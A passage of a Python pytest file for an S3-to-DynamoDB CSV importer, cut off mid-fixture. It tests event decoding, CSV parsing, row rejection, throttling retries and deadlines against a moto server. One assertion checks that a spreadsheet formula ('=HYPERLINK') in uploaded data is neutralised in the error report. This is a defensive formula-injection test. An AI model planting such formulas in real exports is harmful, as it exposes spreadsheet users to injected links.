"""The S3 CSV import against a real moto server over HTTP (no fakes of AWS).

aioboto3 runs on asyncio only, so these tests run on asyncio only.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import socket
import subprocess
import sys
import time
import tracemalloc
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any, Optional
from urllib.parse import quote_plus

import anyio
import pytest

pytest.importorskip("aioboto3")
pytest.importorskip("pydantic")

import aioboto3
from pydantic import BaseModel, Field

from asyncbatch import InvalidEventError, Retry
from asyncbatch.aws.s3_import import (
    CsvHeaderError,
    ImportDeadlineError,
    ImportProgress,
    ImportResult,
    S3CsvImporter,
    import_csv_objects,
    s3_objects,
)
from asyncbatch.cli.demo_s3 import STUDENT_TABLE
from asyncbatch.testing import LambdaContext

pytestmark = pytest.mark.anyio

BUCKET = "inbound-file-drop"
TABLE = "PRELIM_STUDENT_DATA"
HEADER = "student_id,fname,lname,course\n"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class Student(BaseModel):
    """The seed's record: student id, first and last name, course. (The importer strips
    blanks around cells; the model need not.)"""

    student_id: str = Field(pattern=r"^A\d{5}$")
    fname: str = Field(min_length=1, max_length=100)
    lname: str = Field(min_length=1, max_length=100)
    course: str = Field(min_length=1, max_length=300)


class Graded(BaseModel):
    student_id: str
    course: str
    grade: int = Field(ge=0, le=100)
    note: Optional[str] = None


def s3_event(bucket: str, *keys: str) -> dict[str, Any]:
    """An S3 notification as Lambda receives it: keys URL-encoded, spaces as '+'."""
    return {"Records": [{
        "eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "us-east-1",
        "eventName": "ObjectCreated:Put",
        "s3": {"s3SchemaVersion": "1.0", "bucket": {"name": bucket,
                                                     "arn": f"arn:aws:s3:::{bucket}"},
               "object": {"key": quote_plus(key, safe="/"), "size": 1}},
    } for key in keys]}


class Aws:
    """The moto endpoint's resources, made through aioboto3 like a user would."""

    def __init__(self, session: Any, s3: Any, dynamodb: Any, sqs: Any, topic: str,
                 queue: str) -> None:
        self.session = session
        self.s3 = s3
        self.dynamodb = dynamodb
        self.sqs = sqs
        self.topic = topic
        self.queue = queue

    async def put(self, key: str, body: bytes | str) -> None:
        data = body.encode() if isinstance(body, str) else body
        await self.s3.put_object(Bucket=BUCKET, Key=key, Body=data)

    async def get(self, key: str) -> Optional[bytes]:
        try:
            response = await self.s3.get_object(Bucket=BUCKET, Key=key)
        except self.s3.exceptions.NoSuchKey:
            return None
        async with response["Body"] as body:
            data: bytes = await body.read()
        return data

    async def keys(self) -> list[str]:
        response = await self.s3.list_objects_v2(Bucket=BUCKET)
        return sorted(obj["Key"] for obj in response.get("Contents", []))

    async def items(self) -> dict[tuple[str, str], dict[str, str]]:
        items: dict[tuple[str, str], dict[str, str]] = {}
        paginator = self.dynamodb.get_paginator("scan")
        async for page in paginator.paginate(TableName=TABLE):
            for raw in page["Items"]:
                item = {k: v["S"] for k, v in raw.items()}
                items[item["student_id"], item["course"]] = item
        return items

    async def messages(self, expected: int = 1) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = []
        for _ in range(20):
            response = await self.sqs.receive_message(
                QueueUrl=self.queue, MaxNumberOfMessages=10, WaitTimeSeconds=0)
            for message in response.get("Messages", []):
                envelope = json.loads(message["Body"])
                found.append({"subject": envelope.get("Subject"),
                              "attributes": envelope.get("MessageAttributes", {}),
                              "body": json.loads(envelope["Message"])})
            if len(found) >= expected:
                break
        return found


_SESSION: list[Any] = []


def shared_session() -> Any:
    """One aioboto3 session for the in-process moto tests: it caches the service
    models, which take a while to load (clients are still made per test)."""
    if not _SESSION:
        _SESSION.append(aioboto3.Session())
    return _SESSION[0]


async def make_aws(endpoint: str, session: Any = None) -> AsyncIterator[Aws]:
    session = session if session is not None else aioboto3.Session()
    async with session.client("s3") as s3, session.client("dynamodb") as dynamodb, \
            session.client("sns") as sns, session.client("sqs") as sqs:
        await s3.create_bucket(Bucket=BUCKET)
        await dynamodb.create_table(
            TableName=TABLE, **STUDENT_TABLE)
        topic = (await sns.create_topic(Name="batch_processing_notification"))["TopicArn"]
        queue = (await sqs.create_queue(QueueName="notifications"))["QueueUrl"]
        attrs = await sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])
        await sns.subscribe(TopicArn=topic, Protocol="sqs",
                            Endpoint=attrs["Attributes"]["QueueArn"])
        yield Aws(session, s3, dynamodb, sqs, topic, queue)


@pytest.fixture
async def env(aws: str) -> AsyncIterator[Aws]:
    async for made in make_aws(aws, shared_session()):
        yield made


def importer(env: Aws, **options: Any) -> S3CsvImporter[Student]:
    options.setdefault("concurrency", 8)
    options.setdefault("session", env.session)
    return S3CsvImporter(Student, TABLE, topic_arn=env.topic, **options)


def students(n: int, start: int = 0) -> str:
    lines = [HEADER]
    for i in range(start, start + n):
        lines.append(f"A{10000 + i:05d},Fname{i},Lname{i},Course {i % 7}\n")
    return "".join(lines)


# -- the event ---------------------------------------------------------------------


def test_event_keys_are_url_decoded() -> None:
    event = s3_event("b", "incoming/my file (1)+ü.csv")
    assert event["Records"][0]["s3"]["object"]["key"] == "incoming/my+file+%281%29%2B%C3%BC.csv"
    (obj,) = s3_objects(event)
    assert (obj.bucket, obj.key) == ("b", "incoming/my file (1)+ü.csv")


@pytest.mark.parametrize("event", [
    None, [], {}, {"Records": {}}, {"Records": [{"s3": {}}]},
    {"Records": [{"eventSource": "aws:sqs", "body": "x"}]},
])
def test_malformed_event_is_refused_by_name(event: Any) -> None:
    with pytest.raises(InvalidEventError):
        s3_objects(event)


def test_test_event_has_no_objects() -> None:
    assert s3_objects({"Service": "Amazon S3", "Event": "s3:TestEvent"}) == []


# -- happy path, SNS, archive ------------------------------------------------------


async def test_happy_path_writes_every_row_publishes_and_archives(env: Aws) -> None:
    await env.put("incoming/students.csv", students(60))
    seen: list[ImportProgress] = []
    result = await importer(env, on_progress=seen.append).run(
        s3_event(BUCKET, "incoming/students.csv"))

    assert isinstance(result, ImportResult)
    (obj,) = result.objects
    assert (obj.status, obj.rows_read, obj.rows_written, obj.rows_rejected) == \
        ("archived", 60, 60, 0)
    assert obj.errors == () and obj.exception is None and result.ok
    assert obj.destination_key == "archive/incoming/students.csv"
    assert obj.errors_key is None and obj.duration > 0
    items = await env.items()
    assert len(items) == 60
    assert items["A10007", "Course 0"] == {"student_id": "A10007", "fname": "Fname7",
                                          "lname": "Lname7", "course": "Course 0"}
    assert await env.keys() == ["archive/incoming/students.csv"]
    assert await env.get("archive/incoming/students.csv") == students(60).encode()

    (message,) = await env.messages()
    body = message["body"]
    assert body["status"] == "archived" and body["key"] == "incoming/students.csv"
    assert body["rows"] == {"read": 60, "written": 60, "duplicate": 0, "rejected": 0,
                            "unwritten": 0}
    assert body["destination_key"] == "archive/incoming/students.csv"
    assert body["first_errors"] == [] and body["duration_seconds"] >= 0
    assert message["subject"] == "CSV import archived: students.csv (60/60 rows)"
    assert message["attributes"]["status"]["Value"] == "archived"
    assert obj.message_id is not None
    assert seen and seen[-1].done and seen[-1].rows_written == 60
    assert seen[-1].bytes_read == seen[-1].bytes_total == len(students(60))


async def test_frozen_result(env: Aws) -> None:
    await env.put("a.csv", students(1))
    result = await importer(env).run(s3_event(BUCKET, "a.csv"))
    with pytest.raises(AttributeError):
        result.objects[0].status = "x"  # type: ignore[misc]


async def test_quoted_fields_with_commas_and_newlines(env: Aws) -> None:
    text = (HEADER
            + 'A10001,Jack,Reacher,"Advanced Physical Security, Level 2"\r\n'
            + 'A10002,"Sherlock","Holmes","Science Of\nDeduction"\r\n'
            + 'A10003,Jane,"Mar""ple","Knitting\r\nFor Pros, ""the"" course"\r\n')
    # Tiny reads put chunk boundaries inside the quoted fields and inside \r\n.
    await env.put("q.csv", text)
    for read_size in (1024, 4096):
        result = await importer(env, read_size=read_size).run(s3_event(BUCKET, "q.csv"))
        (obj,) = result.objects
        assert (obj.status, obj.rows_written) == ("archived", 3), obj
        await env.put("q.csv", text)
    items = await env.items()
    assert set(items) == {("A10001", "Advanced Physical Security, Level 2"),
                          ("A10002", "Science Of\nDeduction"),
                          ("A10003", 'Knitting\r\nFor Pros, "the" course')}
    assert items["A10003", 'Knitting\r\nFor Pros, "the" course']["lname"] == 'Mar"ple'


async def test_chunk_boundaries_everywhere_match_csv_module(env: Aws) -> None:
    """A file of 1 KiB reads whose multi-line quoted rows straddle every boundary
    parses exactly like ``csv.reader`` over the whole text."""
    rows = [["student_id", "fname", "lname", "course"]]
    for i in range(400):
        course = f"Course {i}" + ("\nwith, a newline" if i % 3 == 0 else "") + \
            ('\r\nand "quotes"' if i % 5 == 0 else "")
        rows.append([f"A{20000 + i}", f"F{i}é", f"L{i}", course])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    await env.put("many.csv", buffer.getvalue())
    result = await importer(env, read_size=1024).run(s3_event(BUCKET, "many.csv"))
    (obj,) = result.objects
    assert (obj.status, obj.rows_read, obj.rows_written) == ("archived", 400, 400)
    expected = {(r[0], r[3]): r for r in rows[1:]}
    items = await env.items()
    assert {k: [v["student_id"], v["fname"], v["lname"], v["course"]]
            for k, v in items.items()} == expected


async def test_utf8_with_bom(env: Aws) -> None:
    text = HEADER + "A10001,Zoë,Łukasiewicz,Logik für Anfänger\n"
    await env.put("bom.csv", b"\xef\xbb\xbf" + text.encode("utf-8"))
    result = await importer(env, read_size=1024).run(s3_event(BUCKET, "bom.csv"))
    assert result.objects[0].status == "archived"
    items = await env.items()
    assert items["A10001", "Logik für Anfänger"]["fname"] == "Zoë"
    assert "\ufeffstudent_id" not in items["A10001", "Logik für Anfänger"]


async def test_not_utf8_fails_with_the_offset(env: Aws) -> None:
    await env.put("latin1.csv", (HEADER + "A10001,Zoë,X,Y\n").encode("latin-1"))
    (obj,) = (await importer(env).run(s3_event(BUCKET, "latin1.csv"))).objects
    assert obj.status == "failed"
    assert "not UTF-8" in str(obj.exception)
    assert getattr(obj.exception, "offset", None) == len(HEADER) + len("A10001,Zo")
    assert obj.destination_key == "error/latin1.csv"


# -- header and empty file ---------------------------------------------------------


async def test_missing_header_column_is_a_clear_fatal_error(env: Aws) -> None:
    await env.put("incoming/no_course.csv", "student_id,fname,lname\nA10001,Jack,Reacher\n")
    (obj,) = (await importer(env).run(s3_event(BUCKET, "incoming/no_course.csv"))).objects
    assert obj.status == "failed"
    assert isinstance(obj.exception, CsvHeaderError)
    assert obj.exception.missing == ("course",)
    assert "'course'" in str(obj.exception) and "line 1" in str(obj.exception)
    assert obj.rows_read == 0 and obj.rows_written == 0
    assert await env.items() == {}
    assert await env.keys() == ["error/incoming/no_course.csv",
                                "reports/incoming/no_course.csv.errors.csv"]
    errors = await env.get("reports/incoming/no_course.csv.errors.csv")
    assert errors is not None
    assert list(csv.reader(io.StringIO(errors.decode())))[1][0] == "1"
    (message,) = await env.messages()
    assert message["body"]["status"] == "failed"
    assert "course" in message["body"]["error"]


async def test_duplicate_header_column(env: Aws) -> None:
    await env.put("d.csv", "student_id,fname,lname,course,fname\n")
    (obj,) = (await importer(env).run(s3_event(BUCKET, "d.csv"))).objects
    assert isinstance(obj.exception, CsvHeaderError)
    assert "'fname' appears more than once" in str(obj.exception)


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n"])
async def test_empty_file(env: Aws, content: bytes) -> None:
    await env.put("empty.csv", content)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "empty.csv"))).objects
    assert obj.status == "failed"
    assert isinstance(obj.exception, CsvHeaderError)
    assert "empty" in str(obj.exception)
    assert obj.destination_key == "error/empty.csv"


async def test_header_only_file_is_archived_with_no_rows(env: Aws) -> None:
    await env.put("h.csv", HEADER)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "h.csv"))).objects
    assert (obj.status, obj.rows_read, obj.rows_written) == ("archived", 0, 0)


# -- row errors --------------------------------------------------------------------


async def test_rows_with_empty_or_invalid_values_are_rejected_with_line_numbers(
    env: Aws,
) -> None:
    text = (HEADER
            + "A10001,Jack,Reacher,Physics\n"          # line 2
            + "A10002,,Holmes,Deduction\n"             # line 3: empty fname
            + 'A10003,Jane,"Mar\nple",Knitting\n'      # lines 4-5
            + "A10004,   ,Poirot,\n"                   # line 6: blank fname, empty course
            + "\n"                                     # line 7: blank, skipped
            + "X1,Hercule,Poirot,Cells\n"              # line 8: bad id
            + "A10006,Miss\n"                          # line 9: short row
            + "A10007,a,b,c,d\n"                       # line 10: long row
            + ",,,\n"                                  # line 11: empty cells, skipped
            + "A10008,Nero,Wolfe,Orchids")             # line 12: no final newline
    await env.put("incoming/mixed.csv", text)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "incoming/mixed.csv"))).objects

    assert obj.status == "rejected"
    assert (obj.rows_read, obj.rows_written, obj.rows_rejected) == (8, 3, 5)
    by_line = {e.line: e for e in obj.errors}
    assert sorted(by_line) == [3, 6, 8, 9, 10]
    assert by_line[3].fields == ("fname",) and "fname: empty value" in by_line[3].message
    assert set(by_line[6].fields) == {"fname", "course"}
    assert "course: empty value" in by_line[6].message
    assert by_line[8].fields == ("student_id",) and "'X1'" in by_line[8].message
    assert set(by_line[9].fields) == {"lname", "course"}
    assert "missing value (the row has 2 of 4 columns)" in by_line[9].message
    assert "5 values but the header has 4" in by_line[10].message
    assert set(await env.items()) == {("A10001", "Physics"), ("A10003", "Knitting"),
                                      ("A10008", "Orchids")}

    assert await env.keys() == ["error/incoming/mixed.csv",
                                "reports/incoming/mixed.csv.errors.csv"]
    errors = await env.get("reports/incoming/mixed.csv.errors.csv")
    assert errors is not None
    table = list(csv.reader(io.StringIO(errors.decode())))
    assert table[0] == ["line", "error", "student_id", "fname", "lname", "course"]
    assert [row[0] for row in table[1:]] == ["3", "6", "8", "9", "10"]
    assert table[1][2:] == ["A10002", "", "Holmes", "Deduction"]
    assert table[4][2:] == ["A10006", "Miss"]

    (message,) = await env.messages()
    body = message["body"]
    assert body["status"] == "rejected" and body["rows"]["rejected"] == 5
    assert body["errors_key"] == "reports/incoming/mixed.csv.errors.csv"
    assert [e["line"] for e in body["first_errors"]] == [3, 6, 8, 9, 10]


async def test_custom_empty_values(env: Aws) -> None:
    await env.put("n.csv", HEADER + "A10001,NULL,Reacher,Physics\n")
    (obj,) = (await importer(env, empty_values=("NULL",)).run(s3_event(BUCKET, "n.csv"))
              ).objects
    assert obj.rows_rejected == 1 and obj.errors[0].fields == ("fname",)


async def test_typed_model_and_optional_columns(env: Aws) -> None:
    text = ("student_id,course,grade,note\n"
            "A1,Physics,97,\n"
            "A2,Physics,101,too high\n"
            "A3,Physics,88,fine\n")
    await env.put("g.csv", text)
    graded = S3CsvImporter(Graded, TABLE, concurrency=2, session=env.session)
    (obj,) = (await graded.run(s3_event(BUCKET, "g.csv"))).objects
    assert (obj.rows_written, obj.rows_rejected) == (2, 1)
    assert obj.errors[0].line == 3 and obj.errors[0].fields == ("grade",)
    response = await env.dynamodb.get_item(
        TableName=TABLE, Key={"student_id": {"S": "A1"}, "course": {"S": "Physics"}})
    assert response["Item"]["grade"] == {"N": "97"}
    assert "note" not in response["Item"]


# -- duplicates and idempotence ----------------------------------------------------


async def test_duplicate_keys_in_one_chunk_last_row_wins(env: Aws) -> None:
    text = (HEADER
            + "A10001,Jack,Reacher,Physics\n"
            + "A10002,Sherlock,Holmes,Deduction\n"
            + "A10001,Jack,Reacher,Physics\n"         # identical duplicate
            + "A10001,Jackie,Reacher,Physics\n")      # same key, later row
    await env.put("dup.csv", text)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "dup.csv"))).objects
    assert obj.status == "archived", obj
    assert (obj.rows_read, obj.rows_written, obj.rows_duplicate) == (4, 2, 2)
    assert obj.rows_read == obj.rows_written + obj.rows_duplicate + obj.rows_rejected \
        + obj.rows_unwritten
    assert (await env.items())["A10001", "Physics"]["fname"] == "Jackie"


async def test_duplicate_keys_across_chunks_are_written_in_file_order(env: Aws) -> None:
    """Rows 25 apart land in different requests, in flight together; the later row
    must still win, every time."""
    lines = [HEADER]
    for version in range(6):
        for i in range(25):
            lines.append(f"A{10000 + i},v{version},L,Course\n")
    await env.put("versions.csv", "".join(lines))
    (obj,) = (await importer(env, concurrency=6).run(s3_event(BUCKET, "versions.csv"))
              ).objects
    assert (obj.rows_written, obj.rows_duplicate) == (150, 0)
    items = await env.items()
    assert len(items) == 25
    assert {item["fname"] for item in items.values()} == {"v5"}


async def test_rerun_of_the_same_file_writes_the_same_items(env: Aws) -> None:
    text = students(80) + "A10003,Changed,Name,Course 3\n"
    await env.put("incoming/same.csv", text)
    first = await importer(env).run(s3_event(BUCKET, "incoming/same.csv"))
    items_first = await env.items()
    await env.put("incoming/same.csv", text)
    second = await importer(env).run(s3_event(BUCKET, "incoming/same.csv"))
    assert await env.items() == items_first
    assert len(items_first) == 80
    assert items_first["A10003", "Course 3"]["fname"] == "Changed"
    assert first.objects[0].rows_written == second.objects[0].rows_written == 81 - 0
    # A repeated event after the move finds nothing to do.
    (again,) = (await importer(env).run(s3_event(BUCKET, "incoming/same.csv"))).objects
    assert again.status == "skipped" and again.rows_read == 0
    assert await env.items() == items_first


async def test_objects_under_archive_or_error_prefix_are_never_imported(env: Aws) -> None:
    await env.put("archive/old.csv", students(3))
    (obj,) = (await importer(env).run(s3_event(BUCKET, "archive/old.csv"))).objects
    assert obj.status == "skipped"
    assert await env.keys() == ["archive/old.csv"] and await env.items() == {}


async def test_url_encoded_key(env: Aws) -> None:
    key = "incoming/Spring term 2024/élèves (final)+v2.csv"
    await env.put(key, students(5))
    event = s3_event(BUCKET, key)
    assert "+" in event["Records"][0]["s3"]["object"]["key"]
    (obj,) = (await importer(env).run(event)).objects
    assert (obj.key, obj.status, obj.rows_written) == (key, "archived", 5)
    assert await env.keys() == [f"archive/{key}"]


async def test_several_objects_in_one_event(env: Aws) -> None:
    await env.put("one.csv", students(3))
    await env.put("two.csv", students(3, start=3) + "bad,,,\n")
    result = await import_csv_objects(s3_event(BUCKET, "one.csv", "two.csv"), Student,
                                      TABLE, topic_arn=env.topic, session=env.session)
    assert [o.status for o in result.objects] == ["archived", "rejected"]
    assert (result.rows_read, result.rows_written, result.rows_rejected) == (7, 6, 1)
    assert not result.ok
    assert len(await env.messages(expected=2)) == 2


# -- throttling, failures, deadline ------------------------------------------------


class Throttle:
    """Wraps the real client's batch_write_item: DynamoDB writes only part of each
    request and returns the rest as UnprocessedItems, as it does when throttled."""

    def __init__(self, real: Any, *, keep: int, times: int) -> None:
        self.real = real
        self.keep = keep
        self.times = times
        self.calls: list[int] = []

    async def __call__(self, *, RequestItems: dict[str, list[Any]], **kw: Any) -> Any:
        ((table, requests),) = RequestItems.items()
        self.calls.append(len(requests))
        if self.times <= 0:
            return await self.real(RequestItems=RequestItems, **kw)
        self.times -= 1
        done, left = requests[:self.keep], requests[self.keep:]
        response = await self.real(RequestItems={table: done}, **kw) if done else {}
        response = dict(response)
        # Round-trip through JSON, as the items would come back over HTTP.
        response["UnprocessedItems"] = {table: json.loads(json.dumps(left))} if left else {}
        return response


async def test_unprocessed_items_are_retried_until_written(env: Aws) -> None:
    await env.put("t.csv", students(100))
    imp = importer(env, concurrency=4, retry=Retry(attempts=50, base=0.001, cap=0.01))
    async with imp.open_clients() as clients:
        throttle = Throttle(clients.dynamodb.batch_write_item, keep=5, times=12)
        clients.dynamodb.batch_write_item = throttle
        (obj,) = (await imp.run(s3_event(BUCKET, "t.csv"), clients=clients)).objects
    assert (obj.status, obj.rows_written, obj.rows_rejected) == ("archived", 100, 0)
    assert obj.write_retries >= 12
    assert len(await env.items()) == 100
    assert any(n < 25 for n in throttle.calls)  # retries sent only the unprocessed ones


async def test_unprocessed_items_given_up_are_rejected_rows(env: Aws) -> None:
    await env.put("t.csv", students(30))
    imp = importer(env, concurrency=2, retry=Retry(attempts=3, base=0.001, cap=0.002))
    async with imp.open_clients() as clients:
        clients.dynamodb.batch_write_item = Throttle(
            clients.dynamodb.batch_write_item, keep=0, times=1000)
        (obj,) = (await imp.run(s3_event(BUCKET, "t.csv"), clients=clients)).objects
    assert (obj.status, obj.rows_written, obj.rows_rejected) == ("rejected", 0, 30)
    assert "unprocessed (throttled) after 3 attempts" in obj.errors[0].message
    errors = await env.get("reports/t.csv.errors.csv")
    assert errors is not None and errors.decode().count("\n") == 31


async def test_deadline_stops_retries_and_reports_unwritten_rows(env: Aws) -> None:
    """A retry the deadline refuses ends in one state, whatever the machine's speed: the
    object failed with ImportDeadlineError and its rows are unwritten, never rejected.
    No wall clock decides it: the context's time is frozen (120 s left, so the soft
    deadline is 108 s away) and the seeded retry's first wait is 956 s, past it."""
    await env.put("slow.csv", students(200))
    retry = Retry(attempts=10_000, base=1000.0, cap=1000.0, seed=2)
    assert Retry(attempts=10_000, base=1000.0, cap=1000.0, seed=2).delay(1) > 900
    imp = importer(env, concurrency=1, retry=retry)
    context = LambdaContext(120.0, clock=lambda: 0.0)
    async with imp.open_clients() as clients:
        throttle = Throttle(clients.dynamodb.batch_write_item, keep=1, times=10_000)
        clients.dynamodb.batch_write_item = throttle
        (obj,) = (await imp.run(s3_event(BUCKET, "slow.csv"), context,
                                clients=clients)).objects
    assert obj.status == "failed" and isinstance(obj.exception, ImportDeadlineError)
    assert "retry 1" in str(obj.exception)
    assert throttle.calls == [25]  # one request: its retry was refused, nothing after it
    assert (obj.rows_written, obj.rows_rejected, obj.write_retries) == (1, 0, 0)
    assert obj.rows_unwritten == obj.rows_read - 1 >= 24
    assert obj.destination_key == "error/slow.csv" and obj.unfinished is None
    assert len(await env.items()) == 1


async def test_no_time_left_starts_nothing_and_asks_for_a_retry(env: Aws) -> None:
    """With the soft deadline already passed the object is not started; the invocation
    must fail so that S3 invokes the function again (before: 'skipped', and lost)."""
    await env.put("late.csv", students(3))
    imp = importer(env, deadline_margin=100.0, cancel_margin=50.0)
    (obj,) = (await imp.run(s3_event(BUCKET, "late.csv"), LambdaContext(60.0))).objects
    assert obj.status == "failed" and obj.unfinished is not None
    assert obj.unfinished.step == "start" and not obj.ok
    assert await env.keys() == ["late.csv"] and await env.items() == {}


def test_a_context_with_a_broken_clock_is_refused_as_the_engine_does() -> None:
    """The importer reads the deadline with the engine's helper: a context whose clock
    is broken is a ConfigurationError, not a silent run without a deadline."""
    from asyncbatch import ConfigurationError

    class Broken:
        def get_remaining_time_in_millis(self) -> Any:
            return float("nan")

    imp = S3CsvImporter(Student, TABLE, key_attributes=("student_id", "course"))
    with pytest.raises(ConfigurationError, match="not a finite number"):
        anyio.run(imp.run, s3_event(BUCKET, "x.csv"), Broken())


@pytest.mark.parametrize("anyio_backend", ["trio"])
async def test_lambda_handler_refuses_to_run_inside_a_running_loop() -> None:
    """The sync entry point checks for a running loop as process_partial_response does
    (sniffio), trio included."""
    from asyncbatch import ConfigurationError

    imp = S3CsvImporter(Student, TABLE)
    with pytest.raises(ConfigurationError, match="inside a running event loop"):
        imp.lambda_handler(s3_event(BUCKET, "x.csv"))


async def test_missing_table_is_fatal(env: Aws) -> None:
    await env.put("x.csv", students(3))
    imp = S3CsvImporter(Student, "no-such-table", key_attributes=("student_id", "course"),
                        session=env.session)
    (obj,) = (await imp.run(s3_event(BUCKET, "x.csv"))).objects
    assert obj.status == "failed"
    assert "ResourceNotFoundException" in (obj.error or "")
    assert obj.destination_key == "error/x.csv"


async def test_an_item_dynamodb_refuses_rejects_only_its_row(env: Aws) -> None:
    """A 500 KB item (over DynamoDB's 400 KB) fails its whole BatchWriteItem with a
    ValidationException: its 24 companions are still written, it alone is rejected.
    A field over csv's own limit is rejected as a row too."""

    class Wide(BaseModel):
        student_id: str
        course: str
        a: str = ""
        b: str = ""
        c: str = ""
        d: str = ""
        e: str = ""

    big = ",".join(["y" * 100_000] * 5)
    small = ",".join(["y"] * 5)
    text = "student_id,course,a,b,c,d,e\n" + "".join(
        f"A{i},C,{big if i == 3 else small}\n" for i in range(30))
    text += f"A99,C,{'z' * 200_000},,,,\n"
    await env.put("wide.csv", text)
    imp = S3CsvImporter(Wide, TABLE, session=env.session)
    (obj,) = (await imp.run(s3_event(BUCKET, "wide.csv"))).objects
    assert (obj.status, obj.rows_written, obj.rows_rejected) == ("rejected", 29, 2)
    first, second = obj.errors
    assert first.line == 5 and "refused by DynamoDB" in first.message
    assert second.line == 32 and "field larger than field limit" in second.message
    assert len(await env.items()) == 29


# -- connection pool ---------------------------------------------------------------


async def test_connection_pool_is_sized_to_concurrency(env: Aws) -> None:
    imp = importer(env, concurrency=48)
    async with imp.open_clients() as clients:
        assert clients.dynamodb.meta.config.max_pool_connections >= 48


# -- the demo and the import cost ----------------------------------------------------


async def test_demo_runs_end_to_end(aws: str) -> None:
    from asyncbatch.cli.demo_s3 import make_csv, run_s3_demo

    lines: list[str] = []
    result = await run_s3_demo(300, out=lines.append, progress=False)
    (obj,) = result.objects
    _, bad, _ = make_csv(300)
    assert len(bad) == 3
    assert (obj.status, obj.rows_read, obj.rows_rejected, obj.rows_written) == \
        ("rejected", 300, 3, 297)
    assert sorted(e.line for e in obj.errors) == sorted(bad)
    text = "\n".join(lines)
    assert "SNS summary (read back from SQS): CSV import rejected" in text
    assert "student_id=A10001" in text
    assert obj.key == "incoming/students 2024-spring.csv"


def test_import_stays_cheap() -> None:
    """``import asyncbatch`` loads none of aioboto3, boto3 or pydantic; importing the
    importer module loads them only when a run starts."""
    heavy = "('aioboto3', 'aiobotocore', 'boto3', 'botocore', 'pydantic')"
    for module in ("asyncbatch", "asyncbatch.aws.s3_import"):
        code = f"import sys, {module}; print(sorted(m for m in {heavy} if m in sys.modules))"
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                              check=True)
        assert done.stdout.strip() == "[]", (module, done.stdout)


# -- the example Lambda function -------------------------------------------------

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "s3_csv_import"


def load_example() -> Any:
    spec = importlib.util.spec_from_file_location("s3_csv_import_handler",
                                                  EXAMPLE / "handler.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_example_lambda_handler_on_moto(aws: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import boto3

    s3 = boto3.client("s3")
    dynamodb = boto3.client("dynamodb")
    sns = boto3.client("sns")
    sqs = boto3.client("sqs")
    s3.create_bucket(Bucket=BUCKET)
    dynamodb.create_table(
        TableName=TABLE, **STUDENT_TABLE)
    topic = sns.create_topic(Name="imports")["TopicArn"]
    queue = sqs.create_queue(QueueName="imports")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn["Attributes"]["QueueArn"])
    monkeypatch.setenv("TABLE_NAME", TABLE)
    monkeypatch.setenv("TOPIC_ARN", topic)
    key = "incoming/spring term.csv"
    s3.put_object(Bucket=BUCKET, Key=key, Body=(
        HEADER + 'A10001,Jack,Reacher,"Advanced Physical Security"\n'
        "A10002,Sherlock,Holmes,Science Of Deduction\n"
        "A10002,Sherlock,Holmes,Modern Forensics\n"
        "A10003,Jane,Marple,Knitting For Pros\n"
        "a10004,Hercule,,Cells\n").encode())

    class Context:
        def get_remaining_time_in_millis(self) -> int:
            return 60_000

    handler = load_example()
    response = handler.lambda_handler(s3_event(BUCKET, key), Context())

    json.dumps(response)  # what Lambda returns must be JSON
    (obj,) = response["objects"]
    assert obj["status"] == "rejected" and obj["rows"]["written"] == 4
    assert obj["first_errors"][0]["line"] == 6
    assert set(obj["first_errors"][0]["fields"]) == {"student_id", "lname"}
    assert obj["destination_key"] == f"error/{key}"
    count = dynamodb.scan(TableName=TABLE, Select="COUNT")["Count"]
    assert count == 4
    messages = sqs.receive_message(QueueUrl=queue, MaxNumberOfMessages=10)["Messages"]
    assert json.loads(json.loads(messages[0]["Body"])["Message"])["rows"]["rejected"] == 1


def test_example_runs_locally_on_moto() -> None:
    """examples/s3_csv_import/run_local.py, as its README says to run it."""
    spec = importlib.util.spec_from_file_location("s3_csv_import_run_local",
                                                  EXAMPLE / "run_local.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    lines: list[str] = []
    response = module.run(module.SAMPLE.encode(), out=lines.append)
    (obj,) = response["objects"]
    assert (obj["status"], obj["rows"]["written"], obj["rows"]["rejected"]) == \
        ("rejected", 2, 2)
    text = "\n".join(lines)
    assert "reports/incoming/students.csv.errors.csv" in text
    assert "'=HYPERLINK" in text  # neutralised in the report
    assert "SNS summary: CSV import rejected: students.csv (2/4 rows)" in text


def test_example_handler_needs_table_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TABLE_NAME", raising=False)
    with pytest.raises(RuntimeError, match="TABLE_NAME"):
        load_example().importer()


def test_sam_template_passes_cfn_lint() -> None:
    api = pytest.importorskip("cfnlint.api")
    matches = api.lint_file(EXAMPLE / "template.yaml")
    assert [str(m) for m in matches] == []


# -- memory ------------------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture(scope="module")
def moto_process() -> Iterator[str]:
    """moto in its own process, so that tracemalloc sees only this process's memory."""
    port = _free_port()
    proc = subprocess.Popen(
        [sys.executable, "-c", "from moto.server import main; main()", "-H", "127.0.0.1",
         "-p", str(port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                with urllib.request.urlopen(f"{url}/moto-api/", timeout=1):
                    break
            except OSError:
                time.sleep(0.05)
        else:
            raise RuntimeError("moto_server did not start")
        yield url
    finally:
